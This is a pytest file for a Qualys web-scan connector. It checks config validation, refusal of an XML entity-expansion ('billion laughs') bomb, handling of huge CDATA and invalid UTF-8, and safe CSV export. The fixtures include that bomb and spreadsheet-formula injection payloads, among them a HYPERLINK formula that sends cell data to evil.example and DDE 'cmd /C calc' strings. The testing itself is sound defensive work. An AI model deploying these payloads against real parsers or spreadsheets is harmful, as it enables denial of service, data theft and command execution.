"""Bad configuration and hostile input: every config problem listed at once (exit 2), an XML
entity-expansion bomb refused at once, a huge CDATA field, invalid UTF-8 in a page, and text that
looks like a spreadsheet formula exported to CSV safely."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import httpx
import pytest

from connector.errors import QualysResponseError
from connector.models import RunOutcome
from connector.simulator import serve_in_thread
from connector.store import schema
from tests.support import (
    Snapshot,
    Tenant,
    assert_nothing_wrongly_fixed,
    run_cli,
    snapshot,
    table_rows,
    write_config,
)

Reference = Callable[[Tenant], Snapshot]
WSGIApp = Callable[..., Iterable[bytes]]

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ServiceResponse><responseCode>SUCCESS</responseCode><count>1</count>
<hasMoreRecords>false</hasMoreRecords><data><WebApp><id>1</id><name>&lol9;</name></WebApp></data>
</ServiceResponse>
"""


class Tamper:
    """WSGI middleware: the answers to `path` (from its `on_call`-th call on) rewritten by `change`."""

    def __init__(
        self,
        app: WSGIApp,
        path: str,
        change: Callable[[bytes], bytes],
        *,
        on_call: int = 1,
        times: int = 1_000_000,
    ) -> None:
        self.app, self.path, self.change = app, path, change
        self.on_call, self.times, self.calls = on_call, times, 0

    def __call__(self, environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
        if environ.get("PATH_INFO", "").rstrip("/") != self.path:
            return list(self.app(environ, start_response))
        self.calls += 1
        seen: list[Any] = []
        body = b"".join(
            self.app(environ, lambda status, headers, *_: seen.extend([status, headers]))
        )
        status, headers = seen
        if self.on_call <= self.calls < self.on_call + self.times:
            body = self.change(body)
        headers = [(k, v) for k, v in headers if k.lower() != "content-length"]
        start_response(status, [*headers, ("Content-Length", str(len(body)))])
        return [body]


WEBAPP_SEARCH = "/qps/rest/3.0/search/was/webapp"
FINDING_SEARCH = "/qps/rest/3.0/search/was/finding"


def bad_utf8(body: bytes) -> bytes:
    """Invalid UTF-8 bytes inside the first finding name's CDATA."""
    return body.replace(b"<name><![CDATA[", b"<name><![CDATA[\xff\xfe\xc3(", 1)


# --- configuration ------------------------------------------------------------------------------
def test_cli_lists_every_config_problem_and_exits_2(tmp_path: Path, db_url: str) -> None:
    """A config with several mistakes is refused with exit 2, each mistake on its own line."""
    config = write_config(tmp_path, "ftp://qualys.example", db_url)
    text = config.read_text().replace("page_size = 20", "page_size = 5000")
    text = text.replace("retry_max_attempts = 2", "retry_max_attempts = 0\nconcurrency = 20")
    text = text.replace("asset_retention_days = 30", "asset_retention_days = 0")
    config.write_text(text + '\n[schedule]\ntime = "25:99"\n')
    result = run_cli(["sync"], config)
    assert result.code == 2
    problems = [line for line in result.stderr.splitlines() if line.startswith("  - ")]
    for expected in (
        "qualys.api_url",
        "page_size 5000",
        "retry_max_attempts",
        "concurrency 20",
        "asset_retention_days",
        "25:99",
    ):
        assert any(expected in p for p in problems), (expected, result.stderr)
    assert "Traceback" not in result.stderr


# --- an XML entity-expansion bomb -----------------------------------------------------------------
def test_entity_bomb_is_refused_at_once_and_nothing_is_written(tenant: Tenant) -> None:
    """A web app page declaring entities is refused without expansion or retry; nothing stored."""
    tamper = Tamper(tenant.sim, WEBAPP_SEARCH, lambda _body: BOMB)
    started = time.monotonic()
    with pytest.raises(QualysResponseError, match="declares XML entities"):
        tenant.sync(transport=httpx.WSGITransport(app=tamper))
    assert time.monotonic() - started < 5
    assert tamper.calls == 1
    assert tenant.waits == []
    assert snapshot(tenant.engine) == Snapshot((), (), ())


def test_cli_sync_against_an_entity_bomb_fails_with_one_clear_line(
    tenant: Tenant, tmp_path: Path, db_url: str
) -> None:
    """`connector sync` served an entity bomb on a findings page exits 1 naming the refusal."""
    tamper = Tamper(tenant.sim, FINDING_SEARCH, lambda _body: BOMB)
    with serve_in_thread(tamper) as running:  # type: ignore[arg-type]
        result = run_cli(
            ["sync", "--no-progress"], write_config(tmp_path, running.base_url, db_url)
        )
    assert result.code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1
    assert "declares XML entities" in errors[0]
    assert table_rows(tenant.engine, schema.findings) == []


# --- a huge CDATA field and invalid UTF-8 -------------------------------------------------------
def test_huge_cdata_field_is_stored_whole(tenant: Tenant, reference: Reference) -> None:
    """A finding whose param and payload are 4 MB of CDATA each is stored like any other."""
    dataset = tenant.sim.dataset
    target = next(f for f in dataset.findings() if f.type == "VULNERABILITY")
    huge = "A<&]]" * 800_000
    dataset.update_finding(target.id, param=huge, payload="P" * 4_000_000)
    report = tenant.sync()
    assert report.outcome is RunOutcome.SUCCEEDED
    rows = {r["key"]: r for r in table_rows(tenant.engine, schema.findings)}
    assert rows[str(target.id)]["param"] == huge
    assert snapshot(tenant.engine) == reference(tenant)


def test_invalid_utf8_in_a_page_is_retried_then_stored(
    tenant: Tenant, reference: Reference
) -> None:
    """A page with invalid UTF-8 is treated as a damaged answer: asked again, then stored."""
    tamper = Tamper(tenant.sim, FINDING_SEARCH, bad_utf8, on_call=2, times=1)
    report = tenant.sync(transport=httpx.WSGITransport(app=tamper))
    assert report.outcome is RunOutcome.SUCCEEDED
    assert report.retries == 1
    assert snapshot(tenant.engine) == reference(tenant)


def test_invalid_utf8_every_time_fails_clearly_and_fixes_nothing(tenant: Tenant) -> None:
    """A page that always carries invalid UTF-8 fails the sync as an unusable answer."""
    tenant.sync()
    tamper = Tamper(tenant.sim, FINDING_SEARCH, bad_utf8, on_call=2)
    with pytest.raises(QualysResponseError, match=r"search/was/finding.*not usable XML"):
        tenant.sync(transport=httpx.WSGITransport(app=tamper))
    assert_nothing_wrongly_fixed(tenant.engine)


# --- formula-looking text exported to CSV -------------------------------------------------------
FORMULAS = {
    "asset": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "name": "+cmd|' /C calc'!A0",
    "param": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_text_from_qualys_is_exported_to_csv_safely(
    tenant: Tenant, tmp_path: Path, db_url: str
) -> None:
    """Qualys text starting with = + - @ is prefixed with a quote in CSV, and kept as is in JSONL."""
    dataset = tenant.sim.dataset
    target = next(f for f in dataset.findings() if f.status in ("NEW", "ACTIVE"))
    dataset.update_webapp(target.webapp_id, name=FORMULAS["asset"])
    dataset.update_finding(
        target.id, name=FORMULAS["name"], param=FORMULAS["param"], url=FORMULAS["url"]
    )
    tenant.sync()
    config = write_config(tmp_path, "http://unused.test", db_url)
    exported = run_cli(["export", "findings", "--format", "csv"], config)
    assert exported.code == 0, exported.stderr
    record = next(
        r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["id"] == str(target.id)
    )
    assert record["asset_name"] == "'" + FORMULAS["asset"]
    assert record["name"] == "'" + FORMULAS["name"]
    assert record["param"] == "'" + FORMULAS["param"]
    assert record["url"] == "'" + FORMULAS["url"]
    for row in csv.reader(io.StringIO(exported.stdout)):
        assert not any(re.match(r"^[=+\-@\t\r]", cell) for cell in row), row
    jsonl = run_cli(["export", "findings", "--asset", str(target.webapp_id)], config)
    raw = next(r for r in map(json.loads, jsonl.stdout.splitlines()) if r["id"] == str(target.id))
    assert (raw["asset_name"], raw["name"]) == (FORMULAS["asset"], FORMULAS["name"])
